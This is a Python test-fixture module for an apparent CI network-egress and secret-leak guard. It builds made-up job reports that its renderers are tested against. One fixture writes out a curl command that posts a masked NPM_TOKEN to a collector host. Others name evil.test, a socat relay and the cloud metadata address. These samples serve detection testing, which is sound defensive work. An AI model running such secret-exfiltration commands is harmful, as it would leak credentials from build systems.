# SPDX-License-Identifier: MIT
"""Reports of made-up jobs, one for each thing that a renderer must be able to tell."""

from __future__ import annotations

from dataclasses import replace
from ipaddress import ip_network

from leakstop.errors import ExitCode
from leakstop.model.channel import Channel, Library, Tie
from leakstop.model.finding import Finding, Severity
from leakstop.model.flow import Stream, Transport
from leakstop.model.process import UNKNOWN
from leakstop.model.report import Coverage, Job, Report, SecretView
from leakstop.model.verdict import Action, Leak, Reason, RuleRef
from leakstop.policy.rules import AddressPlace, NamePlace, PortRange, Protocol, Reach, Rule
from leakstop.report.vocabulary import Vocabulary
from unit.report.incomplete import AWAY, DETACHED, DIED, LOST
from unit.report.scene import (
    API,
    BASH,
    CLEAN,
    CLEAN_BLOCK,
    CLOUD_KEY,
    CURL,
    DEPLOY_TOKEN,
    GIT,
    GITHUB_TOKEN,
    INPUT_POLICY,
    JOB,
    NAMED_FLOWS,
    NO_POLICY,
    NPM_TOKEN,
    PIP,
    POLICY,
    RUNNER_FLOWS,
    WORKER,
    at,
    flow,
    process,
)
from unit.report.stepwise import STEPWISE


def _rule(name: str, reach: Reach = Reach.EXACT) -> Rule:
    ref = RuleRef(text=name, source="built in")
    place = NamePlace(name, reach)
    return Rule(Action.ALLOW, place, Protocol.TLS, (PortRange(443, 443),), ref)


VOCABULARY = Vocabulary(
    presets={
        "github": (
            _rule("git.forge.test"),
            _rule("forge.test", Reach.DEEP),
            Rule(
                Action.ALLOW,
                AddressPlace(ip_network("192.0.2.0/24")),
                Protocol.TLS,
                (PortRange(443, 443),),
                RuleRef(text="192.0.2.0/24", source="built in"),
            ),
        ),
        "public-sinks": (_rule("store.test", Reach.DEEP),),
    },
    indexes={
        "registry:pip": ("https://index.mirror.test:8443", "https://files.mirror.test:8443"),
        "registry:apt": ("http://deb.mirror.test:80",),
    },
)

UNNAMED = replace(
    CLEAN,
    policy=NO_POLICY,
    secrets=(GITHUB_TOKEN, DEPLOY_TOKEN),
    job=replace(JOB, unguarded=("publish", "docs")),
    flows=(
        *RUNNER_FLOWS,
        flow("api.forge.test:443", GIT, "Checkout"),
        flow("git.forge.test:443", GIT, "Checkout", count=2),
        flow("index.mirror.test:8443", PIP, "Install"),
        flow("files.mirror.test:8443", PIP, "Install", count=20),
        flow("deb.mirror.test:80", process("/usr/bin/apt-get", BASH), "Install libs"),
        flow("coverage.example.test:443", CURL, "Upload coverage"),
        flow("cdn.fonts.test:443", process("/opt/chromium", "/usr/bin/node"), "Test"),
        flow("db.example.test:5432", process("/usr/bin/psql", BASH), "Test"),
        flow("time.example.test:123", process("/usr/bin/ntpdate", BASH), protocol=Transport.UDP),
        flow("_ldap.example.test", protocol=Transport.DNS, ip=""),
        flow("acmebuild7.store.test:443", GIT, "Save cache", sink=True),
        flow("deploy.example.test:443", CURL, "Deploy", secrets=("DEPLOY_TOKEN",)),
        flow("old.example.test:80", CURL, "Deploy"),
        flow(
            ":0",
            process("/usr/bin/sctp_test", BASH),
            "Deploy",
            ip="",
            protocol=Transport.OTHER,
            reason=Reason.PROTOCOL,
            origin="socket",
            what="a socket for another protocol",
        ),
        flow(":8080", CURL, "Deploy", ip="203.0.113.9"),
    ),
)
"""An audit run without a policy."""

LEAK_FINDING = Finding(
    id="secret-in-argv",
    severity=Severity.CRITICAL,
    title="A secret was on the command line of a program that went elsewhere",
    process=process(
        "/usr/bin/curl",
        BASH,
        WORKER,
        argv=("curl", "-d", "t=***NPM_TOKEN***", "https://collector.example.test/c"),
    ),
    destination="collector.example.test:443",
    secret="NPM_TOKEN",
    encoding="raw",
    step="Collect metrics",
    action_taken="The connection was refused in the kernel and the program was killed.",
    what_to_do="Rotate `NPM_TOKEN` and find out who wrote this step.",
    ts_ns=at(11.15),
    bytes_left=0,
    size=40,
)
_LEAK_FLOW = flow(
    "collector.example.test:443",
    LEAK_FINDING.process,
    "Collect metrics",
    denied=True,
    reason=Reason.LEAK,
    minute=11.15,
)
STOPPED = replace(
    CLEAN,
    verdict="fail",
    exit_code=ExitCode.FINDINGS,
    findings=(LEAK_FINDING,),
    flows=(
        *CLEAN.flows,
        flow("api.example.test:443", CURL, "Collect metrics", rule=API, minute=11),
        _LEAK_FLOW,
    ),
    secrets=(GITHUB_TOKEN, CLOUD_KEY, NPM_TOKEN),
    job=replace(JOB, name="release", workflow="release.yml"),
)
"""GhostAction, stopped."""

LEAKED = replace(
    STOPPED,
    leak=Leak.FAIL,
    findings=(
        replace(
            LEAK_FINDING,
            bytes_left=None,
            action_taken="It was let go, because the policy says `leak: fail`.",
        ),
        replace(
            LEAK_FINDING,
            secret="CLOUD_KEY",
            size=64,
            encoding="base64",
            what_to_do="Rotate `CLOUD_KEY`.",
            ts_ns=at(12),
            count=3,
        ),
    ),
    flows=(*CLEAN.flows, replace(_LEAK_FLOW, applied=Action.ALLOW)),
)
"""The same with ``leak: fail``."""

FOUND_KEY = SecretView(
    "VAULT_TOKEN",
    (),
    "Vault token",
    "https://docs.vendor.test/vault",
    check="audit log",
    size=28,
    digest="9f3a61",
    source="environment of bash",
    steps=("Collect metrics",),
)
CANARY = SecretView("aws profile deploy", ("nowhere",), "", "", size=40, source="canary")
TLS_FINDING = replace(
    LEAK_FINDING,
    id="secret-in-tls",
    title="A secret was on its way out inside TLS",
    process=process("/usr/bin/python3", BASH, WORKER),
    destination="api.example.test:443",
    channel=Channel.TLS,
    library=Library.OPENSSL,
    tie=Tie.NAME,
    action_taken="Killed before its first byte: 0 of 40 bytes of NPM_TOKEN left.",
)
STOPPED_TLS = replace(
    STOPPED,
    findings=(TLS_FINDING,),
    flows=(
        *CLEAN.flows,
        flow(
            "api.example.test:443",
            TLS_FINDING.process,
            "Collect metrics",
            rule=API,
            minute=11,
            stopped=("NPM_TOKEN",),
        ),
    ),
    secrets=(GITHUB_TOKEN, CLOUD_KEY, FOUND_KEY, NPM_TOKEN, CANARY),
)
"""The same inside TLS, to a host that the policy names."""

LATE = replace(
    STOPPED_TLS,
    findings=(
        replace(
            TLS_FINDING,
            bytes_left=None,
            encoding="gzip > base64",
            tie=Tie.FLOWS,
            action_taken=(
                "Killed, but found only in a copy of what had been sent. Up to 40 of 40 bytes of "
                "NPM_TOKEN left."
            ),
        ),
        replace(TLS_FINDING, secret=CANARY.name, channel=Channel.UDP, library=Library.NONE),
    ),
)
"""Found behind an encoding that the kernel does not look through."""

OPAQUE = replace(
    CLEAN,
    flows=(
        *CLEAN.flows,
        flow("coverage.example.test:443", process("/opt/uploader", BASH), rule=API, inspected=0),
        flow(
            "git.example.test:22",
            process("/usr/bin/ssh", "/usr/bin/git"),
            rule=API,
            count=3,
            encrypted=3,
            uninspected="SSH encrypts by itself",
        ),
    ),
    findings=(
        Finding(
            id="long-lived-publish-token",
            severity=Severity.INFO,
            title="An upload token that Trusted Publishing would replace",
            process=UNKNOWN,
            destination="",
            secret="NPM_TOKEN",
            encoding="",
            step="",
            action_taken="NPM_TOKEN (npm token) stays valid after this job.",
            what_to_do="If it is for publishing: add `permissions: {id-token: write}` to the job.",
            ts_ns=at(0),
            failing=False,
        ),
    ),
)
"""A clean run with connections that were not looked into, and advice."""

SHAPED = replace(
    CLEAN,
    findings=(
        replace(
            TLS_FINDING,
            id="secret-shaped",
            severity=Severity.MEDIUM,
            title="Something of the shape of a token was sent",
            secret="",
            encoding="",
            action_taken="It looks like a Stripe key; its value is none that is watched.",
            what_to_do="If it is one of yours and you do not know this destination, revoke it.",
            bytes_left=None,
            size=0,
            failing=False,
        ),
    ),
)
"""A format alone."""

DENIED = replace(
    CLEAN_BLOCK,
    verdict="fail",
    exit_code=ExitCode.DENIED,
    findings=(
        Finding(
            id="denied-flow",
            severity=Severity.HIGH,
            title="A host was denied",
            process=process("/usr/bin/gh", BASH, WORKER),
            destination="uploads.example.test",
            secret="",
            encoding="",
            step="Upload assets",
            action_taken="Refused in the kernel.",
            what_to_do="Add the host to the policy, or find out who wanted it.",
            ts_ns=at(12),
            count=3,
        ),
    ),
    flows=(
        *CLEAN.flows,
        flow(
            "registry.example.test:443",
            process("/usr/bin/npm", BASH),
            "Publish",
            rule=RuleRef("publish:npm", ".github/leakstop.yml", 11, "publish:npm"),
            minute=11,
        ),
        flow(
            "uploads.example.test",
            process("/usr/bin/gh", BASH, WORKER),
            "Upload assets",
            denied=True,
            protocol=Transport.DNS,
            ip="",
            count=3,
            minute=12,
        ),
    ),
    job=replace(JOB, name="release", workflow="release.yml"),
)
"""One host denied in block mode."""

FORK = replace(DENIED, job=replace(DENIED.job, fork=True, event="pull_request"))
"""The same in a fork's pull request."""

DENIED_MANY = replace(
    DENIED,
    policy=INPUT_POLICY,
    flows=(
        *DENIED.flows,
        flow(":80", process("/tmp/x", BASH), "Test", denied=True, ip="203.0.113.9", count=2),
        flow(
            "telemetry.example.test:443",
            CURL,
            denied=True,
            rule=RuleRef("**.telemetry.example.test", ".github/leakstop.yml", 9),
            reason=Reason.DENY_RULE,
        ),
        flow("drop.store.test:443", CURL, "Test", denied=True, sink=True),
        flow(
            "stats.vendor.test:443",
            CURL,
            denied=True,
            quiet=True,
            rule=RuleRef("stats.vendor.test", ".github/leakstop.yml", 10),
            reason=Reason.DENY_RULE,
        ),
    ),
)
"""Several hosts denied, for different reasons."""

_FOR = "step `Publish` (.github/leakstop.yml:8)"
SCOPED = replace(
    DENIED,
    flows=(
        flow("up.example.test:443", CURL, "Test", denied=True, only_for=_FOR),
        flow("cr.test:443", process("/usr/bin/dockerd"), "", denied=True, only_for=_FOR),
    ),
)
"""The policy allows it to others."""

STRANGE_FLOWS = (
    flow(
        "evil.test:443",
        denied=True,
        stream=Stream.TLS,
        shown="evil.test",
        over="api.example.test:443",
    ),
    flow(
        "api.example.test:443",
        process("/opt/legacy", BASH),
        denied=True,
        reason=Reason.IDENTITY,
        stream=Stream.TLS,
    ),
    flow(
        "docs.example.test:8443",
        process("/opt/browser", BASH),
        denied=True,
        reason=Reason.IDENTITY,
        stream=Stream.HIDDEN,
        shown="cover.test",
    ),
    flow(
        "uploads.example.test:443",
        denied=True,
        over="proxy.example.test:3128",
    ),
    flow(":8080", process(""), "", denied=True, origin="link", ip="203.0.113.9", minute=0.5),
    flow(":40000", process("/usr/sbin/sshd"), denied=True, origin="accept", ip="203.0.113.9"),
    flow(
        "collector.test:443",
        process("/usr/bin/socat", BASH),
        denied=True,
        relayed_for=process("/usr/bin/wget"),
    ),
    flow(
        "x1.pages.test",
        denied=True,
        protocol=Transport.DNS,
        ip="",
        reason=Reason.BUDGET,
        rule=RuleRef("*.pages.test", ".github/leakstop.yml", 8),
        count=40,
        policy_verdict=Action.DENY,
    ),
)
"""Flows that are more than a destination."""
STRANGE = replace(DENIED, findings=(), flows=(*CLEAN.flows, *STRANGE_FLOWS))
"""They were denied."""
CUT = replace(STRANGE, flows=(*CLEAN.flows, STRANGE_FLOWS[0]))
"""One connection was cut."""
STRANGE_AUDIT = replace(
    CLEAN, flows=(*CLEAN.flows, *(replace(f, applied=Action.ALLOW) for f in STRANGE_FLOWS))
)
"""They were let go."""

SOCKET_FLOWS = (
    flow(
        ":0",
        process("/usr/bin/ping", BASH),
        denied=True,
        reason=Reason.PROTOCOL,
        protocol=Transport.ICMP,
        ip="",
        origin="socket",
        what="a raw socket",
        count=2,
    ),
    flow(
        ":0",
        process("/tmp/x", BASH),
        denied=True,
        reason=Reason.UNPARSABLE,
        ip="",
        origin="option",
        what="a socket option",
    ),
)
"""What leads around the guard, and has no destination yet."""
SOCKET = replace(DENIED, findings=(), flows=(*CLEAN.flows, SOCKET_FLOWS[0]))
"""A raw socket was refused."""
SOCKETS = replace(DENIED, findings=(), flows=(*CLEAN.flows, *SOCKET_FLOWS, STRANGE_FLOWS[0]))
"""Several things were, and a host was denied."""
SOCKETS_AUDIT = replace(
    CLEAN, flows=(*CLEAN.flows, *(replace(f, applied=Action.ALLOW) for f in SOCKET_FLOWS))
)
"""They were let go."""

PARTLY = replace(
    CLEAN,
    coverage=Coverage(
        sensor="portable",
        complete=True,
        lost_events=0,
        notes=(
            "Programs that live less than a quarter of a second may be missing.",
            "What is inside TLS was not inspected.",
        ),
    ),
)
"""A job in a container."""

COMMAND = replace(
    UNNAMED,
    job=Job(),
    flows=(
        flow("api.example.test:443", CURL, ""),
        flow("postgres:5432", process("/usr/bin/psql", BASH), ""),
    ),
)
"""``leakstop run`` in somebody's shell."""

OTHER = replace(
    CLEAN,
    findings=(
        Finding(
            id="detector-error",
            severity=Severity.MEDIUM,
            title="A detector failed",
            process=process("/usr/bin/python3"),
            destination="",
            secret="",
            encoding="",
            step="Test",
            action_taken="It was switched off after `3` tries.",
            what_to_do="Report this at <the project>, with events.ndjson.",
            ts_ns=at(2),
            failing=False,
        ),
    ),
)
"""A finding without a section of its own."""

REFUSED_ANSWER = replace(
    CLEAN,
    findings=(
        replace(
            OTHER.findings[0],
            id="refused-answer",
            title="A name pointed where it may not lead",
            process=UNKNOWN,
            destination="inside.example.test",
            step="",
            action_taken="It pointed to 169.254.169.254, and opened nothing there.",
            what_to_do="No name opens such an address.",
            count=2,
            failing=True,
        ),
    ),
)
"""A finding about a name, of which nobody knows who asked for it."""

MORE = replace(UNNAMED, policy=POLICY, flows=(*UNNAMED.flows, *NAMED_FLOWS))
"""An audit run with a policy file that does not name everything."""

HOMELESS = replace(
    CLEAN,
    secrets=(GITHUB_TOKEN, DEPLOY_TOKEN),
    findings=(
        replace(
            LEAK_FINDING,
            id="secret-unplaced",
            severity=Severity.INFO,
            secret="DEPLOY_TOKEN",
            destination="api.example.test:443",
            bytes_left=None,
        ),
    ),
    flows=(*CLEAN.flows, flow("api.example.test:443", rule=API, secrets=("DEPLOY_TOKEN",))),
)
"""A secret that nobody has placed went to a host that the policy names."""

MORE_INPUT = replace(MORE, policy=INPUT_POLICY)
"""The same with a policy in the step."""

CASES: dict[str, Report] = {
    "clean": CLEAN,
    "clean-block": CLEAN_BLOCK,
    "command": COMMAND,
    "denied": DENIED,
    "denied-fork": FORK,
    "denied-many": DENIED_MANY,
    "scoped": SCOPED,
    "away": AWAY,
    "detached": DETACHED,
    "died": DIED,
    "homeless": HOMELESS,
    "late": LATE,
    "leaked": LEAKED,
    "lost": LOST,
    "more": MORE,
    "more-input": MORE_INPUT,
    "opaque": OPAQUE,
    "other": OTHER,
    "partly": PARTLY,
    "shaped": SHAPED,
    "stopped": STOPPED,
    "stopped-tls": STOPPED_TLS,
    "cut": CUT,
    "refused-answer": REFUSED_ANSWER,
    "socket": SOCKET,
    "sockets": SOCKETS,
    "sockets-audit": SOCKETS_AUDIT,
    "stepwise": STEPWISE,
    "strange": STRANGE,
    "strange-audit": STRANGE_AUDIT,
    "unnamed": UNNAMED,
}
